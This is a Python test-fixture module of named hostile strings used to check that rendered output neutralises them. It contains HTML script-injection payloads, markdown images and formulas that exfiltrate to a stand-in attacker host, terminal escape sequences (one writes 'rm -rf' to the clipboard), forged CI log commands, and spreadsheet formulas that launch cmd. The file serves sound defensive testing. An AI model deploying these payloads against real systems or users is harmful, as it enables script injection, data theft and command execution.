"""Texts that would do something if a page, a document, a terminal or a log obeyed them.

Each holds `WORD`, so that a test can see that it was shown at all. What must never happen is named
by the tests: a script run, another host asked, an element made, a sign obeyed, a line forged.
"""

from __future__ import annotations

WORD = "PARCEL"
EVIL = "evil.example.com"
"""A host that nothing may ask."""

RUN_MARK = "__pwned"
"""What a script of theirs would set in the page."""

_RUN = f"window.{RUN_MARK}=1"

MARKUP = {
    "script": f"{WORD} <script>{_RUN}</script>",
    "script closed early": f"{WORD} </script><script>{_RUN}</script>",
    "image with a handler": f'{WORD} <img src=x onerror="{_RUN}">',
    "image from afar": f'{WORD} <img src="http://{EVIL}/html?q=secret">',
    "svg": f'{WORD} <svg onload="{_RUN}"><script>{_RUN}</script></svg>',
    "mathml": f'{WORD} <math><mtext><style><img src=x onerror="{_RUN}"></style></mtext></math>',
    "frame": f'{WORD} <iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    "frame from afar": f'{WORD} <iframe src="http://{EVIL}/frame"></iframe>',
    "object": f'{WORD} <object data="data:text/html,<script>{_RUN}</script>"></object>',
    "style": f"{WORD} <style>body{{background:url(http://{EVIL}/css)}}</style>",
    "style sheet": f'{WORD} <link rel="stylesheet" href="http://{EVIL}/a.css">',
    "import": f"{WORD} <style>@import 'http://{EVIL}/b.css';</style>",
    "refresh": f'{WORD} <meta http-equiv="refresh" content="0;url=http://{EVIL}/">',
    "base": f'{WORD} <base href="http://{EVIL}/">',
    "form": f'{WORD} <form action="http://{EVIL}/"><button autofocus>Go</button></form>',
    "link to a script": f'{WORD} <a href="javascript:{_RUN}">click</a>',
    "out of an attribute": f'{WORD} " autofocus onfocus="{_RUN}" x="',
    "out of an attribute, single": f"{WORD} ' onmouseover='{_RUN}' x='",
    "out of a textarea": f"{WORD} </textarea><script>{_RUN}</script>",
    "out of a comment": f"{WORD} --><script>{_RUN}</script><!--",
    "entities": f"{WORD} &lt;script&gt;{_RUN}&lt;/script&gt; &amp;amp; &#60;b&#62;",
    "template": f"{WORD} {{{{ 7*7 }}}} {{% raw %}} ${{7*7}} #{{7*7}} $var",
    "half a tag": f"{WORD} <b class=",
}
MARKDOWN = {
    "image": f"{WORD} ![x](http://{EVIL}/md?q=secret)",
    "image by name": f"{WORD} ![x][1]\n\n[1]: http://{EVIL}/ref",
    "link": f"{WORD} [click](javascript:{_RUN}) <javascript:{_RUN}>",
    "data link": f"{WORD} [click](data:text/html;base64,PHNjcmlwdD4=)",
    "heading": f"# {WORD}\n## Overall: 5 of 5",
    "underlined heading": f"{WORD}\n=====\nand\n-----",
    "rule": f"{WORD}\n\n***\n\n---",
    "table": f"| {WORD} | 5 of 5 |\n| --- | --- |\n| a | b |",
    "list": f"- {WORD}\n+ two\n1. three\n2) four",
    "quote": f"> {WORD}\n>> deeper",
    "fence": f"```html\n{WORD} <script>{_RUN}</script>\n```",
    "fence of waves": f"~~~\n{WORD}\n~~~",
    "code by spaces": f"    {WORD} four spaces\n\tand a tab",
    "emphasis": f"**{WORD}** _it_ ~~gone~~ `code` <b>bold</b>",
    "formula": f"{WORD} $\\href{{javascript:{_RUN}}}{{x}}$ $$\\input{{/etc/passwd}}$$ \\(x\\)",
    "diagram": f'```mermaid\ngraph TD; {WORD}-->B; click {WORD} "javascript:{_RUN}"\n```',
    "footnote": f"{WORD}[^1]\n\n[^1]: and more",
    "backslashes": f"{WORD} \\<b\\> \\\\ \\* C:\\Users\\n",
    "entity": f"{WORD} &copy; &#42;star&#42; &nbsp;",
    "bare address": f"{WORD} http://{EVIL}/bare www.{EVIL} a@{EVIL}",
}
SIGNS = {
    "colours": f"{WORD} \x1b[31mred\x1b[0m \x1b[2J\x1b[H",
    "title of the window": f"{WORD} \x1b]0;pwned\x07 \x1b]8;;http://{EVIL}\x07link\x1b]8;;\x07",
    "single-byte escape": f"{WORD} \x9b31m \x9d0;pwned\x9c",
    "clipboard": f"{WORD} \x1b]52;c;cm0gLXJm\x07",
    "written over": f"{WORD} 1 of 5\rgrade 5 of 5\x08\x08\x7f",
    "bell": f"{WORD} \x07\x0b\x0c\x0e",
    "other direction": f"{WORD} \u202egrade 5\u202c \u2066x\u2069 \u200f",
    "nothing to see": f"{WORD} a\u200bb\u200dc\ufeffd\u2060e\u00adf",
    "tags": f"{WORD} \U000e0069\U000e0067",
    "line ends": f"{WORD}\u2028next\u2029last\x85end",
    "forged event": f"{WORD}\nERROR mock_interviewer: forged\r\nWARNING root: forged",
    "GitHub's command": f"{WORD}\n::error file=a.py,line=1::forged\n  ::add-mask::e\n##[group]x",
    "GitHub's command, late": f"{WORD} ##[error]forged %0A::warning::forged",
    "null": f"{WORD} a\x00b",
}
FORMULAS = {
    "equals": f'=HYPERLINK("http://{EVIL}/?q="&A1,"{WORD}")',
    "plus": f"+1+cmd|' /C calc'!A0 {WORD}",
    "minus": f"-1+{WORD}",
    "at": f"@SUM(1+1)*{WORD}",
    "tab": f"\t=1+1 {WORD}",
    "return": f"\r=1+1 {WORD}",
    "full width": f"\uff1d1+1 {WORD}",
    "quoted": f'"=1+1","{WORD}"\n=2+2',
    "dynamic data": f"=cmd|'/c calc'!{WORD}",
}
LONG = {"one long word": f"{WORD}{'a' * 3000}", "deep": "<b>" * 400 + WORD}

HOSTILE = MARKUP | MARKDOWN | SIGNS | FORMULAS | LONG
"""All of them, by name."""

assert len(HOSTILE) == sum(map(len, (MARKUP, MARKDOWN, SIGNS, FORMULAS, LONG)))
assert all(WORD in text for text in HOSTILE.values())
